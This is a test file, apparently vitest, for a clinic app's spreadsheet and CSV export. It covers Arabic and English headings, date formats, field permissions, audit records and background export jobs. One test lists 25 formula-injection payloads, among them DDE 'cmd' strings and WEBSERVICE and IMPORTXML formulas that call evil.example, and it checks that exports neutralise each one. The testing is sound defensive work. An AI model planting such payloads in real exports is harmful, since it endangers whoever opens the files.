import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '#tests/setup/client.ts';
import { download, openCsv, openWorkbook } from '#tests/setup/spreadsheet.ts';
import {
  startTestServer,
  type TestClinic,
  type TestPerson,
  type TestServer,
} from '#tests/setup/testServer.ts';

let server: TestServer;
let clinic: TestClinic;
let owner: Client & { readonly person: TestPerson };
beforeAll(async () => {
  server = await startTestServer();
  clinic = await server.newClinic();
  owner = await clinic.signedIn({ role: 'owner' });
  const made = await owner.post('/branches', {
    name_ar: 'فرع المعادي',
    name_en: 'Maadi',
    code: 'MAADI',
    phone: '01012345678',
    address: 'شارع 9\nالدور الثاني',
    latitude: '29.960000',
    longitude: '31.250000',
    geofence_m: 1200,
    allowed_ips: ['10.0.0.1', '10.0.0.2'],
    manager_id: owner.person.employeeId,
  });
  expect(made.status).toBe(201);
});
afterAll(() => server.stop());

const values = (row: readonly ({ readonly value: string | number } | undefined)[] | undefined) =>
  Array.from(row ?? [], (cell) => cell?.value ?? '');
const onlyMaadi = `filter=${encodeURIComponent('{"code":"MAADI"}')}`;

describe('UX-16 an exported workbook', () => {
  it('holds typed cells under Arabic headings, right to left, frozen and filtered', async () => {
    const { status, bytes, headers } = await download(
      owner,
      `/branches/export?${onlyMaadi}&columns=name_ar,code,manager_id,phone,geofence_m,latitude,allowed_ips,active_employees,status`,
    );
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(decodeURIComponent(headers.get('content-disposition') ?? '')).toMatch(
      /^attachment; filename\*=UTF-8''الفروع \d{4}-\d\d-\d\d\.xlsx$/,
    );
    const [sheet] = openWorkbook(bytes);
    expect(sheet?.name).toBe('الفروع');
    expect(values(sheet?.rows[0])).toEqual([
      'اسم الفرع',
      'كود الفرع',
      'مدير الفرع',
      'الهاتف',
      'نطاق الحضور (متر)',
      'خط العرض',
      'عناوين الشبكة المسموحة',
      'الموظفون النشطون',
      'الحالة',
    ]);
    const [manager] = await clinic.sql('select full_name_ar from employees where id = $1', [
      owner.person.employeeId,
    ]);
    expect(values(sheet?.rows[1])).toEqual([
      'فرع المعادي',
      'MAADI',
      manager?.['full_name_ar'],
      '01012345678',
      1200,
      29.96,
      '10.0.0.1، 10.0.0.2',
      0,
      'نشط',
    ]);
    expect(sheet?.rows).toHaveLength(2);
    expect(sheet?.rows[1]?.[4]?.format).toBe('#,##0');
    expect(sheet?.rows[1]?.[5]?.format).toBe('#,##0.000000');
    expect(sheet?.xml).toContain('rightToLeft="1"');
    expect(sheet?.xml).toContain(
      '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>',
    );
    expect(sheet?.xml).toContain('<autoFilter ref="A1:I2"/>');
  });

  it('tells on its second sheet which rows these are, when, by whom and how many', async () => {
    const { bytes } = await download(owner, `/branches/export?${onlyMaadi}&columns=name_ar`);
    const about = openWorkbook(bytes)[1];
    expect(about?.name).toBe('عن الملف');
    const told = new Map(about?.rows.map((row) => [row[0]?.value, row[1]]));
    expect(told.get('القائمة')?.value).toBe('الفروع');
    expect(told.get('المستخدم')?.value).toBe(owner.person.name);
    expect(told.get('عدد السجلات')?.value).toBe(1);
    expect(told.get('كود الفرع')?.value).toBe('MAADI');
    expect(told.get('تاريخ التصدير')?.format).toBe('dd/mm/yyyy hh:mm');
  });

  it('speaks English to an English reader, left to right', async () => {
    const { bytes } = await download(owner, `/branches/export?${onlyMaadi}&columns=name_ar,status`, {
      language: 'en',
    });
    const [sheet] = openWorkbook(bytes);
    expect(sheet?.name).toBe('Branches');
    expect(values(sheet?.rows[0])).toEqual(['Branch name (Arabic)', 'Status']);
    expect(values(sheet?.rows[1])).toEqual(['فرع المعادي', 'Active']);
    expect(sheet?.xml).not.toContain('rightToLeft');
  });

  it('writes days as days, and lines on a sheet of their own', async () => {
    const number = '2026-03-09';
    await clinic.sql('update employees set birth_date = $2 where id = $1', [owner.person.employeeId, number]);
    await clinic.sql(
      `insert into employees__employment_periods (clinic_id, id, record_id, position, start) values (app_clinic(), gen_random_uuid(), $1, 0, '2024-02-29')`,
      [owner.person.employeeId],
    );
    const { bytes } = await download(owner, `/employees/export?columns=all&ids=${owner.person.employeeId}`);
    const sheets = openWorkbook(bytes);
    const heading = values(sheets[0]?.rows[0]).indexOf('تاريخ الميلاد');
    // Day 46,090 of a spreadsheet is 9 March 2026.
    expect(sheets[0]?.rows[1]?.[heading]).toMatchObject({ value: 46090, format: 'dd/mm/yyyy' });
    const periods = sheets.find(({ name }) => name === 'فترات العمل');
    expect(values(periods?.rows[1])).toContain(45351);
  });
});

describe('UX-16 an exported CSV', () => {
  it('is read by Excel: mark, CRLF, quotes, Latin digits; lines and sheets stay out', async () => {
    const { bytes, headers } = await download(
      owner,
      `/branches/export?format=csv&${onlyMaadi}&columns=name_ar,address,geofence_m,latitude,phone`,
    );
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text).toBe(
      'اسم الفرع,العنوان,نطاق الحضور (متر),خط العرض,الهاتف\r\nفرع المعادي,"شارع 9\nالدور الثاني",1200,29.960000,01012345678\r\n',
    );
  });
});

/** What attackers write into a name, hoping that whoever opens the export runs it. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(1,1)',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-HYPERLINK("http://evil.example")',
  '@SUM(1,1)',
  "@cmd|' /C calc'!A0",
  '\t=1+1',
  '\tcmd',
  '\r=1+1',
  '\rcmd',
  '＝1+1',
  '＝HYPERLINK("http://evil.example","x")',
  '＋1+1',
  '＋SUM(1,1)',
  '－1+1',
  '－2+3',
  '＠SUM(1,1)',
  '＠cmd',
];

it('25 formula payloads: no live cell in XLSX or CSV (SEC-52)', async () => {
  expect(payloads).toHaveLength(25);
  // Straight into the table: some of them no form would let pass.
  for (const [index, text] of payloads.entries())
    await clinic.sql(
      `insert into branches (clinic_id, id, name_ar, code, address, status) values (app_clinic(), gen_random_uuid(), $1, $2, 'حمولة', 'active')`,
      // Numbered: letters that only look otherwise are one name.
      [`${text} ${index}`, `P${index}`],
    );
  const filter = encodeURIComponent('{"address":"حمولة"}');
  const query = `filter=${filter}&columns=name_ar,code&sort=${encodeURIComponent('["code","ASC"]')}`;
  const book = await download(owner, `/branches/export?${query}`);
  const [sheet] = openWorkbook(book.bytes);
  const cells = (sheet?.rows ?? []).slice(1).map((row) => row[0]);
  const csv = openCsv(
    (await download(owner, `/branches/export?format=csv&${query}`)).bytes.toString('utf8').slice(1),
  ).slice(1);
  expect(cells).toHaveLength(25);
  expect(csv).toHaveLength(25);
  const live = /^[=+\-@\t\r＝＋－＠]/;
  expect(cells.filter((cell) => cell?.formula !== undefined || live.test(String(cell?.value)))).toEqual([]);
  expect(csv.filter(([name]) => live.test(name ?? ''))).toEqual([]);
  expect(cells.map((cell) => String(cell?.value)).filter((text) => text.startsWith("'"))).toHaveLength(25);
  expect(csv.filter(([name]) => name?.startsWith("'"))).toHaveLength(25);
});

describe('who may take what out', () => {
  it('SEC-01 a list one may not open is not exported; the other clinic has other rows', async () => {
    const nobody = await clinic.signedIn({ permissions: [] });
    expect((await download(nobody, '/branches/export')).status).toBe(403);
    const other = await (await server.newClinic()).signedIn({ role: 'owner' });
    const [sheet] = openWorkbook((await download(other, '/branches/export?columns=name_ar')).bytes);
    expect(values(sheet?.rows.flat()).filter((name) => String(name).includes('المعادي'))).toEqual([]);
  });

  it('SEC-14 fields one may not read are in no column, and asking for them is answered like nonsense', async () => {
    const reader = await clinic.signedIn({ permissions: ['view_employees'] });
    const everything = openWorkbook((await download(reader, '/employees/export?columns=all')).bytes);
    const headings = values(everything[0]?.rows[0]);
    expect(headings).toContain('الاسم بالعربية');
    const ownIban = openWorkbook((await download(owner, '/employees/export?columns=all')).bytes)[0];
    expect(values(ownIban?.rows[0])).toContain('الآيبان');
    await clinic.sql(
      `update employees set pay_method = 'bank', bank_name = 'البنك السري', iban = 'EG380019000500000000263180002' where id = $1`,
      [owner.person.employeeId],
    );
    const texts = openWorkbook((await download(reader, '/employees/export?columns=all')).bytes).flatMap(
      ({ rows }) => rows.flatMap(values),
    );
    expect(
      texts.filter((text) => String(text).includes('البنك السري') || String(text).includes('EG38')),
    ).toEqual([]);
    expect((await download(reader, '/employees/export?columns=full_name_ar,bank_name')).status).toBe(200);
    expect((await download(reader, '/employees/export?columns=full_name_ar,iban')).status).toBe(422);
    expect((await download(owner, '/employees/export?columns=full_name_ar,iban')).status).toBe(422);
  });

  it('SEC-14 SEC-15 an order by what one may not read or what is no field is refused before anything is sent or noted', async () => {
    const reader = await clinic.signedIn({ permissions: ['view_employees'] });
    const noted = () =>
      clinic.sql(`select count(*)::int as n from audit_log where action in ('export', 'print')`);
    const before = await noted();
    for (const format of ['csv', 'xlsx', 'print'])
      for (const name of ['bank_name', 'zzz']) {
        const sort = encodeURIComponent(JSON.stringify([name, 'ASC']));
        const { status, json } = await reader.get(`/employees/export?format=${format}&sort=${sort}`);
        expect([format, name, status, json?.code]).toEqual([format, name, 422, 'unknown_field']);
      }
    expect(await noted()).toEqual(before);
  });

  it('each export leaves one record: who, which filter, how many rows', async () => {
    await clinic.sql('select 1');
    const before = await clinic.sql(`select seq from audit_log where action = 'export'`);
    await download(owner, `/branches/export?${onlyMaadi}&columns=name_ar`);
    const noted = await clinic.sql(`select * from audit_log where action = 'export' order by seq`);
    expect(noted).toHaveLength(before.length + 1);
    const last = noted.at(-1);
    expect(last?.['entity']).toBe('branches');
    expect(last?.['actor_id']).toBe(owner.person.userId);
    expect(last?.['changes']).toMatchObject({ filter: [null, '{"code":"MAADI"}'], rows: [null, 1] });
  });
});

describe('UX-16, UX-46 more than 5,000 rows', () => {
  it('are prepared by a job that its maker alone can watch, fetch and cancel', async () => {
    const large = await server.newClinic();
    const chief = await large.signedIn({ role: 'owner' });
    await large.sql(`update clinics set plan_limits = '{}'`);
    await large.sql(`insert into branches (clinic_id, id, name_ar, code, status)
      select app_clinic(), gen_random_uuid(), 'فرع ' || n, 'B' || n, 'active' from generate_series(1, 5001) n`);
    const asked = await chief.get('/branches/export?columns=name_ar,code');
    expect(asked.status).toBe(202);
    expect(asked.json).toMatchObject({ kind: 'export', resource: 'branches', done: 0 });
    const id = asked.json.id as string;
    await expect
      .poll(async () => (await chief.get(`/jobs/${id}`)).json.state, { timeout: 15_000 })
      .toBe('done');
    const { json: job } = await chief.get(`/jobs/${id}`);
    const total = Number((await large.sql('select count(*)::int as n from branches'))[0]?.['n']);
    expect(job).toMatchObject({ done: total, total, result: { rows: total } });
    const file = await download(chief, `/jobs/${id}/file`);
    expect(openWorkbook(file.bytes)[0]?.rows).toHaveLength(total + 1);
    const other = await large.signedIn({ role: 'owner' });
    expect((await other.get(`/jobs/${id}`)).status).toBe(404);
    expect((await download(other, `/jobs/${id}/file`)).status).toBe(404);
    expect((await other.remove(`/jobs/${id}`)).status).toBe(404);
    expect((await chief.get('/jobs')).json).toHaveLength(1);
    expect((await other.get('/jobs')).json).toEqual([]);
  });
});
